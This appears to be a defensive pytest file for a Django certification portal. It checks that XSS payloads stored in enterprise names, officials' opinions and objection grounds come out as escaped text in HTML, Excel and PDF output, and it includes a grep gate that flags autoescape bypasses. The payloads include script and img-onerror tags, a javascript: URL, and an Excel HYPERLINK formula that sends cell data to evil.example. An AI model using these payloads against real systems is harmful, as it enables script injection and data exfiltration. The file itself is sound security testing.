"""Stored XSS (reliability.md V3): what enterprises, officials and the public type is shown as text
everywhere it comes back: HTML pages, Excel files and PDFs. And a grep gate over every way around
Django's autoescaping.

The payloads sit in the enterprise's legal name (frozen into the application's snapshot), in every
official's opinion, and in an objection's grounds and the reply to it; the application then goes all
the way to a published list and a certificate through the real services.
"""

# ruff: noqa: F811 - the workflow fixtures imported below are test arguments
from __future__ import annotations

import re
import shutil
import subprocess
from datetime import UTC, datetime
from io import BytesIO
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse
from openpyxl import load_workbook

import tests.certification.conftest  # noqa: F401 - first: workflow_fixtures imports it back
from certification import publication
from certification.models import Certification, Notice, PublishedList
from certification.transitions import Action
from tests.certification.workflow_fixtures import (  # noqa: F401
    AFTER_NOTICE,
    NOTICE_STARTS,
    act,
    chain_fixture,
    draft,
    expert_reviews,
    experts,
    media,
    province_approver,
    province_reviewer,
    ready,
    wf_program,
    wf_round,
)
from tests.conftest import require
from tests.enterprises.conftest import acme, colleague, owner  # noqa: F401

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
JS_URL = "javascript:alert(1)"
NAME = f"贵州{SCRIPT}{IMG}{JS_URL}科技有限公司"
OPINION = f"同意推荐{SCRIPT}{IMG}<a href='{JS_URL}'>点我</a>"
GROUNDS = f"研发投入数据不实{SCRIPT}{IMG}{JS_URL}"
# A formula in a cell would run in the reader's Excel (and a HYPERLINK would be a link out).
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
DURING = datetime(2026, 9, 29, 2, 0, tzinfo=UTC)


def url(name, **kwargs):
    return reverse(name, kwargs={"tenant_code": "gz", **kwargs})


@pytest.fixture
def world(ready, chain, acme, django_capture_on_commit_callbacks):
    """The payloads stored everywhere, and the application published with its certificate."""
    acme.name = NAME
    acme.contact_person = FORMULA
    acme.save(update_fields=["name", "contact_person"])
    application = act(ready, Action.SUBMIT, chain.owner)
    application = act(application, Action.RECOMMEND, chain.county, opinion=OPINION)
    application = act(application, Action.RECOMMEND, chain.prefecture, opinion=OPINION)
    application = expert_reviews(application, chain.experts, chain.province_reviewer)
    application = act(application, Action.APPROVE, chain.province_approver, opinion=OPINION)
    notice = publication.notice_create(
        round_=application.round,
        application_ids=[application.pk],
        title=f"公示{SCRIPT}",
        body=f"现予公示。{IMG}",
        how_to_object="实名书面反映。",
        starts_on=NOTICE_STARTS,
        working_days=5,
        by=chain.province_approver,
    )
    objection = publication.objection_file(
        notice=notice,
        entry_id=notice.entries.get().pk,
        filer_name=f"王五{SCRIPT}",
        filer_phone="13812345678",
        grounds=GROUNDS,
        at=DURING,
    )
    publication.objection_resolve(
        objection=objection, upheld=False, reply=OPINION, by=chain.province_approver
    )
    with django_capture_on_commit_callbacks(execute=True):
        published = publication.notice_publish(notice=notice, by=chain.province_approver, at=AFTER_NOTICE)
    return {
        "application": application,
        "notice": Notice.objects.get(pk=notice.pk),
        "published": PublishedList.objects.get(pk=published.pk),
        "certification": Certification.objects.get(application=application),
    }


def assert_escaped(html: str) -> None:
    """No payload is live markup; each is present as escaped text."""
    assert SCRIPT not in html
    assert "<img src=x onerror" not in html
    assert re.search(r"""href\s*=\s*["']?\s*javascript:""", html, flags=re.I) is None
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


# --- HTML pages -------------------------------------------------------------------------------------------


def test_the_official_review_page_shows_the_payloads_as_text(client, world, chain):
    client.force_login(chain.province_approver)
    response = client.get(url("review_detail", pk=world["application"].pk))
    assert response.status_code == 200
    html = response.content.decode()
    assert_escaped(html)
    assert "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;" in html  # the name, escaped in place


def test_the_officials_enterprise_list_shows_the_name_as_text(client, world, chain):
    client.force_login(chain.county)
    response = client.get(url("enterprise_list"))
    assert response.status_code == 200
    assert_escaped(response.content.decode())


def test_the_review_queue_shows_the_name_as_text(client, world, chain):
    client.force_login(chain.province_approver)
    response = client.get(url("review_queue") + "?state=all")
    assert response.status_code == 200
    html = response.content.decode()
    assert SCRIPT not in html and "<img src=x onerror" not in html


def test_the_public_notice_published_list_and_directory_show_the_name_as_text(client, world):
    for page in (
        url("notice_public", pk=world["notice"].pk),
        url("published_public", pk=world["published"].pk),
        url("directory"),
        url("verify_number", number=world["certification"].number),
    ):
        response = client.get(page)
        assert response.status_code == 200, page
        assert_escaped(response.content.decode())


def test_the_notice_admin_page_shows_objection_grounds_as_text(client, world, chain):
    client.force_login(chain.province_approver)
    response = client.get(url("notice_manage", pk=world["notice"].pk))
    assert response.status_code == 200
    html = response.content.decode()
    assert_escaped(html)
    assert "研发投入数据不实&lt;script&gt;" in html


# --- Excel --------------------------------------------------------------------------------------------------


def cells(data: bytes):
    workbook = load_workbook(BytesIO(data))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_literal_cells(data: bytes, *expected: str) -> None:
    found = {c.value for c in cells(data) if isinstance(c.value, str)}
    for text in expected:
        assert text in found, (text, sorted(found)[:20])
    for cell in cells(data):
        assert cell.data_type != "f", f"{cell.coordinate} holds a formula: {cell.value!r}"
        assert cell.hyperlink is None, f"{cell.coordinate} holds a hyperlink"


@pytest.mark.parametrize(
    ("name", "who", "query"),
    [
        ("enterprise_list", "county", "?format=xlsx"),
        ("directory_export", None, ""),
    ],
)
def test_excel_exports_hold_the_payloads_as_literal_text(client, world, chain, name, who, query):
    if who:
        client.force_login(getattr(chain, who))
    response = client.get(url(name) + query)
    assert response.status_code == 200, response.status_code
    assert_literal_cells(response.content, NAME)


def test_a_formula_in_a_name_is_exported_as_text(client, world, chain):
    client.force_login(chain.county)
    response = client.get(url("enterprise_list") + "?format=xlsx")
    # the cell keeps the text, behind the apostrophe that makes Excel read it as text
    assert_literal_cells(response.content, "'" + FORMULA)


def test_the_published_list_excel_holds_the_name_as_literal_text(client, world):
    response = client.get(url("published_xlsx", pk=world["published"].pk))
    assert response.status_code == 200
    assert_literal_cells(response.content, NAME)


# --- PDFs -----------------------------------------------------------------------------------------------------


def pdf_text(data: bytes) -> str:
    """The PDF's text in content-stream order (-raw): a table cell's lines stay together."""
    require(shutil.which("pdftotext") is not None, "needs pdftotext: apt-get install poppler-utils")
    result = subprocess.run(
        ["pdftotext", "-raw", "-enc", "UTF-8", "-", "-"],
        input=data,
        capture_output=True,
        check=True,
        timeout=60,
    )
    return result.stdout.decode("utf-8")


def squeeze(text: str) -> str:
    return re.sub(r"\s+", "", text)


def assert_pdf_shows_literally(data: bytes, *texts: str) -> None:
    assert data.startswith(b"%PDF")
    shown = squeeze(pdf_text(data))
    for text in texts:
        assert squeeze(text) in shown, text


def test_the_application_pdf_prints_the_payloads_as_text(client, world, chain):
    client.force_login(chain.province_approver)
    response = client.get(url("review_pdf", pk=world["application"].pk))
    assert response.status_code == 200
    assert_pdf_shows_literally(b"".join(getattr(response, "streaming_content", [response.content])), NAME)


def test_the_notice_and_published_list_pdfs_print_the_name_as_text(client, world):
    notice = client.get(url("notice_pdf", pk=world["notice"].pk))
    assert notice.status_code == 200
    assert_pdf_shows_literally(b"".join(getattr(notice, "streaming_content", [notice.content])), NAME)
    published = world["published"]
    assert published.pdf, "the published list's PDF was rendered on publication"
    with published.pdf.open("rb") as fh:
        assert_pdf_shows_literally(fh.read(), NAME)


def test_the_certificate_prints_the_name_as_text(world):
    certification = world["certification"]
    assert certification.certificate, certification.certificate_error or "no certificate"
    with certification.certificate.open("rb") as fh:
        assert_pdf_shows_literally(fh.read(), NAME)


# --- the grep gate ------------------------------------------------------------------------------------------

ROOT = Path(settings.BASE_DIR)
SCANNED = ("portal", "enterprises", "certification", "funding", "reports", "templates")
# Every way to switch Django's autoescaping off for a value.
BYPASSES = re.compile(
    r"\|\s*safe(?:seq)?\b|mark_safe\s*\(|SafeString\s*\(|format_html\s*\(|format_html_join\s*\("
    r"|\{%\s*autoescape\s+off|\{%\s*filter\s+safe|__html__"
)

# (path, the stripped line): why it is safe. A new use, or a changed line, fails the gate until it is
# reviewed and added here.
ALLOWED = {
    (
        "certification/application_pdf.py",
        '"page_number": mark_safe(\'<span class="page-number"></span>\'),',
    ): "constant markup for the PDF's page counter; no data",
    (
        "certification/application_pdf.py",
        '"page_count": mark_safe(\'<span class="page-count"></span>\'),',
    ): "constant markup for the PDF's page counter; no data",
    (
        "certification/certificates.py",
        '"page_number": mark_safe(\'<span class="page-number"></span>\'),',
    ): "constant markup for the PDF's page counter; no data",
    (
        "certification/certificates.py",
        '"page_count": mark_safe(\'<span class="page-count"></span>\'),',
    ): "constant markup for the PDF's page counter; no data",
    (
        "certification/certificates.py",
        'return mark_safe(qr.svg_inline(scale=4, border=2, dark="#1f2328", omitsize=False))  # noqa: S308',
    ): "SVG generated by segno from the verification URL: paths and rects only, no text of the user's",
    (
        "templates/registration/password_reset_email.html",
        "{% load i18n %}{% autoescape off %}{% blocktranslate %}You asked to reset the password of your "
        "account {{ user }} on the SRDI Portal.{% endblocktranslate %}",
    ): "a text/plain e-mail: there is no HTML to inject into",
    (
        "templates/includes/form.html",
        '{% if field.help_text %}<div class="help" id="{{ field.auto_id }}_helptext">'
        "{{ field.help_text|safe }}</div>{% endif %}",
    ): "help texts are ours (gettext strings and sizes), as in Django's own form templates; never user data",
}


def bypasses_in_code() -> dict[tuple[str, str], int]:
    found: dict[tuple[str, str], int] = {}
    for top in SCANNED:
        for path in sorted((ROOT / top).rglob("*")):
            if path.suffix not in (".py", ".html", ".txt", ".xml") or "migrations" in path.parts:
                continue
            for line in path.read_text(encoding="utf-8", errors="replace").splitlines():
                if BYPASSES.search(line):
                    key = (path.relative_to(ROOT).as_posix(), line.strip())
                    found[key] = found.get(key, 0) + 1
    return found


def test_every_autoescape_bypass_is_on_the_reviewed_allow_list():
    found = bypasses_in_code()
    unreviewed = sorted(key for key in found if key not in ALLOWED)
    assert not unreviewed, (
        "Unreviewed autoescape bypasses (review, then add to ALLOWED with a reason):\n"
        + "\n".join(f"  {path}: {line}" for path, line in unreviewed)
    )


def test_the_allow_list_has_no_stale_entries():
    found = bypasses_in_code()
    stale = sorted(key for key in ALLOWED if key not in found)
    assert not stale, "ALLOWED lists lines that no longer exist: remove them\n" + "\n".join(map(str, stale))


def test_the_gate_catches_a_new_bypass(tmp_path, monkeypatch):
    # given a template that renders a user's value with |safe
    (tmp_path / "templates").mkdir()
    (tmp_path / "templates" / "new.html").write_text("<p>{{ enterprise.name|safe }}</p>\n", encoding="utf-8")
    monkeypatch.setattr(__import__(__name__, fromlist=["ROOT"]), "ROOT", tmp_path)
    # then the gate finds it
    assert bypasses_in_code() == {("templates/new.html", "<p>{{ enterprise.name|safe }}</p>"): 1}


def test_autoescape_is_on_for_every_template_engine():
    for engine in settings.TEMPLATES:
        assert engine.get("OPTIONS", {}).get("autoescape", True) is True
